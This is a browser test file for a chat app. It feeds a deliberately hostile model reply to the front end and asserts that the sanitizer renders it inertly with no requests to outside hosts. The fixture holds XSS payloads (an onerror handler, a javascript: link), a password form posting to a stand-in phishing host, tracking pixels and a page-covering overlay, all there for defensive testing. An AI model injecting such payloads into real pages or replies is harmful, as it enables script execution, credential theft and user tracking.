// Model output is untrusted: a reply that tries to load remote resources, take input, restyle the
// page or cover it renders inertly, and the page asks nothing of any other host. (The sanitizer's
// cases one by one: web/src/lib/safeHtml.test.ts.)
import assert from "node:assert/strict";
import { describe } from "node:test";
import { createThread, marker, openThread, screenshot, script, send, useBrowser } from "./helpers.mjs";

const { it, newPage } = useBrowser();

const PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGMIczvxHwAEvgJkCH8s1QAAAABJRU5ErkJggg==";

const HOSTILE_REPLY = `Here is a cat: ![a cat](https://images.example/cat.png) and a pixel: ![inline pixel](${PIXEL})

<img src="http://tracker.example/pixel.gif" alt="tracking pixel" srcset="https://tracker.example/2x.gif 2x">
<img src="x" onerror="window.__pwned = 'onerror'">
<img src="//cdn.example/protocol-relative.png" alt="protocol-relative">

<form action="https://phish.example/login" method="post"><input name="password" placeholder="Password"><textarea>t</textarea><select><option>a</option></select><button type="submit">Log in</button></form>

<style>body { display: none !important; } .app { background: url(https://tracker.example/bg.png); }</style>

<div style="position: fixed; inset: 0; z-index: 9999; background: rgb(255 0 0 / 0.6);">An overlay over the whole page</div>

<div class="sidebar drawer-scrim jump-latest" id="main" name="root">Borrowed classes</div>

<iframe src="https://frames.example/"></iframe>
<video src="https://media.example/v.mp4" poster="https://media.example/poster.jpg"></video>
<table background="https://tracker.example/table.png"><tr><td>a cell</td></tr></table>
<svg width="20" height="20"><image href="https://tracker.example/svg.png" width="20" height="20"/><rect width="20" height="20" fill="url(https://tracker.example/paint.svg#p)"/></svg>
<a href="javascript:window.__pwned = 'link'">a script link</a>

\`\`\`js
const fenced = "code keeps its copy button";
\`\`\`

The end.`;

const LOCAL_HOSTS = new Set(["127.0.0.1", "localhost"]);

describe("model output", () => {
  it("renders a hostile reply inertly and loads nothing from outside", async () => {
    const { context, page } = await newPage();
    // Every request the page makes, and (should one go to another host) none that reaches it.
    const outside = [];
    page.on("request", (request) => {
      const url = new URL(request.url());
      if (url.protocol !== "data:" && url.protocol !== "blob:" && !LOCAL_HOSTS.has(url.hostname)) outside.push(url.href);
    });
    await context.route("**/*", (route) => {
      const url = new URL(route.request().url());
      return LOCAL_HOSTS.has(url.hostname) ? route.continue() : route.abort();
    });

    const thread = await createThread("model output");
    const m = marker("hostile");
    await script(m, [{ kind: "text", text: HOSTILE_REPLY, delayMs: 5 }]);
    await openThread(page, thread.id);
    await send(page, `Show me everything ${m}`);

    const reply = page.locator('[data-testid="message"][data-role="assistant"][data-kind="text"] .markdown').filter({ hasText: "The end." });
    await reply.waitFor({ timeout: 20_000 });
    // The inline image has loaded: the reply is in the page and its images were dealt with.
    const pixel = reply.locator('img[alt="inline pixel"]');
    await pixel.waitFor();
    assert.ok(await pixel.evaluate((img) => img.complete && img.naturalWidth === 1), "the data: image did not render");

    // Nothing was asked of another host, through the whole stream.
    assert.deepEqual(outside, [], `requests left localhost: ${outside.join(", ")}`);

    // Remote images are links to the image, named by their alt text; the data: image stays, and so
    // does a same-origin one (without its onerror).
    const srcs = await reply.locator("img").evaluateAll((els) => els.map((e) => e.getAttribute("src")));
    assert.deepEqual(srcs, [PIXEL, "x"]);
    const cat = reply.locator('a[data-remote-image][href="https://images.example/cat.png"]');
    assert.match(await cat.innerText(), /a cat/);
    assert.equal(await cat.getAttribute("rel"), "noopener noreferrer");
    assert.equal(await reply.locator('a[data-remote-image][href="http://tracker.example/pixel.gif"]').count(), 1);
    assert.equal(await reply.locator('a[data-remote-image][href="//cdn.example/protocol-relative.png"]').count(), 1);

    // No controls, styles, frames or media; no style or event attributes; no script link.
    const forbidden = "form, input, textarea, select, style, iframe, object, embed, video, audio, image, [style], [srcset], [background], [poster]";
    assert.equal(await reply.locator(forbidden).count(), 0);
    assert.deepEqual(await reply.locator("button").evaluateAll((els) => els.map((e) => e.textContent)), ["Copy"], "only the code block's own copy button");
    assert.doesNotMatch(await reply.innerText(), /Log in/, "the form's button left its label");
    const eventAttributes = await reply.evaluate((root) =>
      [...root.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith("on")),
    );
    assert.deepEqual(eventAttributes, []);
    assert.equal(await reply.locator('a[href^="javascript:"]').count(), 0);
    assert.equal(await page.evaluate(() => window.__pwned), undefined);

    // Nothing from the reply is fixed in place, borrows the app's classes or its ids.
    const positions = await reply.evaluate((root) => [...root.querySelectorAll("*")].map((e) => getComputedStyle(e).position));
    assert.ok(!positions.includes("fixed"), "an element of the reply is position: fixed");
    const borrowed = reply.getByText("Borrowed classes");
    assert.equal(await borrowed.getAttribute("class"), null);
    assert.equal(await borrowed.getAttribute("id"), "user-content-main");
    // The page itself is untouched: visible, and the composer is what sits at its own place.
    assert.equal(await page.locator("body").isVisible(), true);
    const onTop = await page.getByTestId("composer").evaluate((el) => {
      const r = el.getBoundingClientRect();
      return document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2) === el;
    });
    assert.ok(onTop, "something covers the composer");

    // Chromium reports the inline styles and handlers of HTML it merely parses (DOMPurify's inert
    // document inherits the page's policy). None of them is in the page (above), none ran, and the
    // policy had to refuse no load: the sanitizer had left nothing to refuse.
    const refused = page.cspViolations.filter((v) => !/^(Applying inline style|Executing inline event handler) /.test(v));
    assert.deepEqual(refused, []);
    page.cspViolations.length = 0;

    await reply.scrollIntoViewIfNeeded();
    await screenshot(page, "13-hostile-reply-inert");
    assert.deepEqual(page.errors, []);
  });
});
